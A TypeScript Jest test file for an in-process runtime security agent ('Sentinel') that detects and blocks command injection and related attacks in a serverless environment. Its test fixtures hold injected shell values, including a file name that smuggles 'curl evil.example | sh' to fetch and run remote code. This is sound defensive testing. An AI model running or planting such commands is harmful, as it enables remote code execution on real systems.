import type { AgentMessage } from '../../../protocol/channel';
import { parseConfig } from '../../../protocol/config';
import type { Finding } from '../../../protocol/finding';
import { Invocation } from '../context/invocation';
import { detectShellCommand } from '../detectors/shell';
import type { Verdict } from '../detectors/types';
import { Agent } from './agent';

const roots = { taskRoot: '/var/task', runtimeDir: '/var/runtime', layerRoot: '/opt', tmpDirs: ['/tmp'] };
const verdict: Verdict = {
  category: 'command_injection',
  kind: 'shell_metachar',
  severity: 'critical',
  confidence: 'high',
  title: 'bad',
};

function agentWith(env: Record<string, string> = {}): {
  agent: Agent;
  sent: AgentMessage[];
  findings: () => Finding[];
} {
  const agent = new Agent(parseConfig(env).config, roots, env);
  const sent: AgentMessage[] = [];
  agent.setSender((m) => sent.push(m));
  return { agent, sent, findings: () => sent.flatMap((m) => (m.t === 'finding' ? [m.finding] : [])) };
}

describe('Agent.check', () => {
  it('reports verdicts with phase, request id, attribution, and does not block in monitor mode', () => {
    const { agent, findings } = agentWith();
    const inv = new Invocation('req-1', { cmd: 'x; id' });
    const err = agent.context.run(inv, () =>
      agent.check(
        'child_process.exec',
        () => ['echo x; id'],
        () => verdict,
      ),
    );
    expect(err).toBeUndefined();
    expect(findings()).toHaveLength(1);
    expect(findings()[0]).toMatchObject({
      category: 'command_injection',
      sink: 'child_process.exec',
      phase: 'invoke',
      requestId: 'req-1',
      blocked: false,
      args: ['echo x; id'],
    });
    // Frames under in-process-agent/ count as the agent's own, so the first "user" frame is jest's: the finding
    // names its npm package and file:line.
    expect(findings()[0]).toMatchObject({
      package: 'jest-circus',
      location: expect.stringMatching(/jest-circus\/build\/\w+\.js:\d+$/),
    });
  });

  it('blocks per category with an error naming Sentinel, the category and the request', () => {
    const { agent, findings } = agentWith({ SENTINEL_BLOCK: 'command_injection' });
    const err = agent.context.run(new Invocation('req-2', {}), () =>
      agent.check(
        'child_process.exec',
        () => [],
        () => verdict,
      ),
    );
    expect(err).toMatchObject({
      name: 'SentinelBlockedError',
      code: 'ERR_SENTINEL_BLOCKED',
      message: '[Sentinel] blocked command_injection (request req-2)',
    });
    expect(findings()[0].blocked).toBe(true);
    const allowed = agentWith({ SENTINEL_MODE: 'block', SENTINEL_ALLOW: 'command_injection' });
    expect(
      allowed.agent.check(
        'x',
        () => [],
        () => verdict,
      ),
    ).toBeUndefined();
  });

  it('fails open: a throwing detector is counted and reported once as agent/internal_error', () => {
    const { agent, findings } = agentWith({ SENTINEL_MODE: 'block' });
    const boom = () => {
      throw new Error('detector exploded');
    };
    expect(agent.check('fs.readFileSync', () => [], boom)).toBeUndefined();
    expect(agent.check('fs.readFileSync', () => [], boom)).toBeUndefined();
    expect(agent.internalErrors).toBe(2);
    expect(findings()).toEqual([
      expect.objectContaining({
        category: 'agent',
        kind: 'internal_error',
        details: expect.objectContaining({ error: 'Error: detector exploded' }),
      }),
    ]);
  });

  it('input extraction failures are internal errors too, and the check still runs', () => {
    const { agent, findings } = agentWith();
    const inv = new Invocation('req-3', {});
    jest.spyOn(inv, 'inputs').mockImplementation((onError) => {
      onError?.(new Error('extract failed'));
      return [];
    });
    agent.context.run(inv, () =>
      agent.check(
        'x',
        () => [],
        () => verdict,
      ),
    );
    expect(
      findings()
        .map((f) => f.category)
        .sort(),
    ).toEqual(['agent', 'command_injection']);
  });

  it('deduplicates per invocation and bounds the findings of one invocation', () => {
    const { agent, findings } = agentWith();
    const inv = new Invocation('req-4', {});
    agent.context.run(inv, () => {
      for (let i = 0; i < 3; i++)
        agent.check(
          'x',
          () => [],
          () => verdict,
        );
      for (let i = 0; i < 100; i++)
        agent.check(
          'x',
          () => [],
          () => ({ ...verdict, title: `t${i}` }),
        );
    });
    // 64 findings, then one `agent`/`findings_dropped` that makes the exhausted budget visible.
    expect(findings()).toHaveLength(65);
    expect(findings()[64]).toMatchObject({ category: 'agent', kind: 'findings_dropped', requestId: 'req-4' });
    expect(agent.droppedFindings).toBe(100 + 1 - 64);
  });

  it('past the budget still reports the first finding of each other kind (a flood cannot hide an attack)', () => {
    const { agent, findings } = agentWith();
    const inv = new Invocation('req-5', {});
    agent.context.run(inv, () => {
      for (let i = 0; i < 200; i++)
        agent.check(
          'process.binding',
          () => [],
          () => ({ ...verdict, category: 'integrity', kind: 'process_binding', title: `noise ${i}` }),
        );
      for (const file of ['touch', 'curl'])
        agent.check(
          'child_process.execFileSync',
          () => [file],
          () => ({ ...verdict, category: 'exec_policy', kind: 'not_allowed', title: `${file} not allowed` }),
        );
    });
    const kinds = findings().map((f) => `${f.category}:${f.kind}`);
    expect(kinds.filter((k) => k === 'integrity:process_binding')).toHaveLength(64);
    // The first exec past the budget gets through; the second of that kind is dropped (and the drop reported once).
    expect(
      findings()
        .filter((f) => f.kind === 'not_allowed')
        .map((f) => f.title),
    ).toEqual(['touch not allowed']);
    expect(kinds.filter((k) => k === 'agent:findings_dropped')).toHaveLength(1);
    expect(agent.droppedFindings).toBe(200 - 64 + 1);
  });

  it('reports code run from a string that reaches a sink (eval_origin)', () => {
    const { agent, findings } = agentWith();
    Object.assign(globalThis, { sentinelTestAgent: agent });
    // biome-ignore lint/security/noGlobalEval: the behaviour under test
    const indirectEval = eval;
    indirectEval(
      "globalThis.sentinelTestAgent.check('child_process.spawn', () => [], () => undefined, { evalOrigin: true })",
    );
    Reflect.deleteProperty(globalThis, 'sentinelTestAgent');
    expect(findings()).toEqual([
      expect.objectContaining({ category: 'code_injection', kind: 'eval_origin', phase: 'init' }),
    ]);
  });

  it('nested hooked calls inside a check pass straight through (guard)', () => {
    const { agent, findings } = agentWith();
    agent.check(
      'outer',
      () => [],
      () => {
        agent.check(
          'inner',
          () => [],
          () => verdict,
        );
        return undefined;
      },
    );
    expect(findings()).toEqual([]);
  });
});

describe('serial context: a payload that waits for the next invocation', () => {
  it('is still correlated with the event that carried it (and blocked), under the later request id', () => {
    const { agent, findings } = agentWith({ SENTINEL_CONTEXT: 'serial', SENTINEL_BLOCK: 'command_injection' });
    const command = 'convert in.png out.png; curl evil.example | sh';
    const check = () =>
      agent.check(
        'child_process.exec',
        () => [command],
        (inputs) => detectShellCommand(command, inputs),
      );
    // Request A carries the payload and schedules the command for later; it returns at once.
    agent.context.begin(
      new Invocation('req-a', { body: '{"name":"in.png out.png; curl evil.example | sh"}' }),
      () => 0,
    );
    // The environment froze; the timer fires while request B (a benign event) runs.
    let err: Error | undefined;
    agent.context.begin(new Invocation('req-b', { body: '{"name":"world"}' }), () => {
      err = check();
    });
    expect(err?.message).toMatch(/command_injection/);
    expect(findings()[0]).toMatchObject({ category: 'command_injection', requestId: 'req-b', blocked: true });
    expect(findings()[0].input?.path).toMatch(/^\(request req-a\)\$\.body<json>\.name/);
  });
});
